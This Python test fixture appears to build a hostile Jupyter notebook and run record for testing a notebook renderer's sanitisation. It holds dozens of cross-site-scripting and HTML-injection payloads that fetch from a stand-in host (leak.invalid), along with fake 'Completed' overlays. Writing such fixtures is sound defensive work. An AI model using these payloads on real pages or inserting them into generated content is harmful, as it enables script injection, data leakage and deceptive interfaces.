"""A notebook that attacks whoever opens its page: a table of payloads, each put in every place."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

from mlops_nb.pipeline.cells import StageName
from mlops_nb.pipeline.records import ErrorRecord, ModelRecord, RunRecord, StageRecord

LEAK = "http://leak.invalid"
# Without quotes, blanks and signs of HTML, so that each payload may put them into what it likes.
RUN = "window.pwned=1;fetch(unescape(/http:%2F%2Fleak.invalid%2Frun/.source))"
ATTRIBUTE = RUN.replace("run", "attribute")

# HTML, as Markdown cells and outputs hold it.
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src='{LEAK}/a.js'></script>",
    f"<script type='module'>{RUN}</script>",
    f'<img src=x onerror="{ATTRIBUTE}">',
    f'<img src=x onerror="{ATTRIBUTE}"//',
    f'<img src="data:image/png;base64,AAAA" onload="{ATTRIBUTE}" onerror="{ATTRIBUTE}">',
    f"<img src='{LEAK}/pixel.png' srcset='{LEAK}/set.png 2x'>",
    f'<body onload="{ATTRIBUTE}" background="{LEAK}/bg">',
    f'<svg onload="{ATTRIBUTE}"><script>{RUN}</script></svg>',
    f'<svg><image href="{LEAK}/i.png"/><use href="{LEAK}/u.svg#a"/></svg>',
    f'<svg><animate onbegin="{ATTRIBUTE}" attributeName=x dur=1s /></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    f'<svg></p><style><a id="</style><img src=1 onerror={ATTRIBUTE}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>m</math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="{LEAK}"></iframe>',
    f"<object data='{LEAK}/o'></object><embed src='{LEAK}/e'><applet code='{LEAK}/a'></applet>",
    f"<form action='{LEAK}/form'><input name=q autofocus onfocus=\"{ATTRIBUTE}\">"
    f"<button formaction='javascript:{RUN}'>Go</button></form>",
    f"<a href='javascript:{RUN}'>a</a> <a href=' java&#x09;script:{RUN}'>b</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>c</a> <a href='vbscript:x'>d</a>",
    f'<a href="#" ping="{LEAK}/ping" onmouseover="{ATTRIBUTE}">e</a>',
    f"<meta http-equiv='refresh' content='0;url={LEAK}/refresh'>",
    f"<meta http-equiv='Content-Security-Policy' content='script-src *'><base href='{LEAK}/'>",
    f"<link rel=stylesheet href='{LEAK}/s.css'><link rel=prefetch href='{LEAK}/p'>"
    f"<link rel=dns-prefetch href='{LEAK}'>",
    f"<style>@import '{LEAK}/i.css'; body{{background:url({LEAK}/b)}} .mnb{{display:none}}</style>",
    f'<div style="background:url({LEAK}/s);width:expression({ATTRIBUTE})">s</div>',
    '<div style="position:fixed;inset:0;z-index:9999;background:green">Completed</div>',
    '<div style="margin-top:-5000px;height:9000px;background-color:green">Completed</div>',
    "</div></div></div></main></body></html><header class='mnb mnb-state'>Completed</header>",
    f'<video src="{LEAK}/v.mp4" poster="{LEAK}/p.png" autoplay onplay="{ATTRIBUTE}"></video>',
    f'<audio><source src="{LEAK}/a.mp3" onerror="{ATTRIBUTE}"></audio>',
    f'<details open ontoggle="{ATTRIBUTE}"><summary>d</summary></details>',
    f'<marquee onstart="{ATTRIBUTE}">m</marquee><isindex action="{LEAK}">',
    f'<table background="{LEAK}/t"><td background="{LEAK}/td">t</td></table>',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp><plaintext>",
    f"<template><script>{RUN}</script></template><!--><img src=x onerror={RUN}>-->",
    f"<p id='cell-id=c1' class='mnb-state'>x</p><img name=pwned id=pwned src='{LEAK}/n'>",
    f'<button onclick="{ATTRIBUTE}" popovertarget=x>b</button><div popover id=x>p</div>',
    f"<!DOCTYPE html><html><head><title>t</title><script>{RUN}</script></head>"
    f'<body onload="{ATTRIBUTE}">whole page</body></html>',
]
MARKDOWN = [
    f"[a](javascript:{RUN.replace(' ', '')})",
    f"![x]({LEAK}/md.png)",
    f'![x](attachment:a.png)\n\n<img src="attachment:a.png" onerror="{ATTRIBUTE}">',
    f"<javascript:{RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\unicode{{<img src=x onerror={RUN}>}}$$",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"```mermaid\ngraph LR; A[\"<img src=x onerror='{RUN}'>\"]\n```",
    f'# <img src=x onerror="{ATTRIBUTE}">',
    f'[ref]: javascript:x "<img src=x onerror={RUN}>"\n\n[ref]',
]


def hostile_notebook() -> dict[str, Any]:
    """Return an executed notebook with every payload in every place."""
    cells = list(_cells())
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {
            "title": f"<script>{RUN}</script>",
            "language_info": {"name": f"<img onerror={RUN}>", "pygments_lexer": {"x": 1}},
            "widgets": {f"</script><script>{RUN}</script>": {}},
        },
        "cells": [{"id": f"c{number}", **cell} for number, cell in enumerate(cells)],
    }


def hostile_record() -> RunRecord:
    """Return a record whose every text is a payload."""
    text = f'"><img src=x onerror="{RUN}"><script>{RUN}</script>'
    error = ErrorRecord(code="MNB410", message=text, cell=1, stage=text, traceback=text)
    stage = StageRecord(
        name=StageName(text),
        action="run",
        reason=text,
        status="failed",
        seconds=1.0,
        series={text: (1.0, 2.0, 3.0)},
        error=error,
    )
    return RunRecord(
        run_id=text,
        notebook=text,
        output=None,
        status="failed",
        parameters={text: text},
        stages=(stage,),
        metrics={text: 1.0},
        model=ModelRecord(name=text, version=1, uri=text),
        error=error,
        started=datetime(2026, 3, 1, tzinfo=UTC),
        seconds=1.0,
        notes=(text,),
    )


def _cells() -> Iterator[dict[str, Any]]:
    for payload in [*PAYLOADS, *MARKDOWN]:
        attachments = {"a.png": {f'text/html" onload="{RUN}': "PHNjcmlwdD4=", "text/html": "PHA+"}}
        yield {
            "cell_type": "markdown",
            "metadata": {},
            "source": payload,
            "attachments": attachments,
        }
    for payload in PAYLOADS:
        yield _code(payload, _display({"text/html": payload, "text/plain": payload}))
    yield {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": PAYLOADS[0]}
    yield _code("odd outputs", *_odd_outputs())


def _odd_outputs() -> Iterator[dict[str, Any]]:
    script, image = PAYLOADS[0], PAYLOADS[4]
    pixel = "R0lGODlhAQABAAAAACwAAAAAAQABAAA="
    for payload in (script, image):
        yield {"output_type": "stream", "name": "stdout", "text": payload}
        yield {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]}
        for kind in ("text/markdown", "text/latex", "text/vnd.mermaid", "text/plain"):
            yield _display({kind: payload})
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ATTRIBUTE}">{script}</svg>'
    yield _display({"image/svg+xml": svg})
    yield _display({"application/javascript": RUN, "text/plain": "<IPython object>"})
    yield _display({"image/png": f'x" onerror="{RUN}" y="'})
    yield _display(
        {"image/png": pixel, "text/plain": "p"},
        {"image/png": {"width": f"1 onload={RUN}", "height": f'2" onload="{RUN}'}},
    )
    yield _display(
        {"image/jpeg": pixel}, {"filenames": {"image/jpeg": f'{LEAK}/f.jpg" onerror="{RUN}'}}
    )
    yield _display({"application/vnd.jupyter.widget-view+json": {"x": f"</script>{script}"}})
    yield {"output_type": script, "data": {"text/html": script}, "metadata": {}}


def _display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def _code(source: str, *outputs: dict[str, Any]) -> dict[str, Any]:
    payload = f'"><img src=x onerror="{RUN}">'
    return {
        "cell_type": "code",
        "execution_count": payload,
        "metadata": {
            "tags": [payload, "hide mnb-state"],
            "mlops_nb": {"status": payload, "reason": payload, "seconds": payload},
            "transient": {"remove_source": False},
        },
        "source": source,
        "outputs": list(outputs),
    }
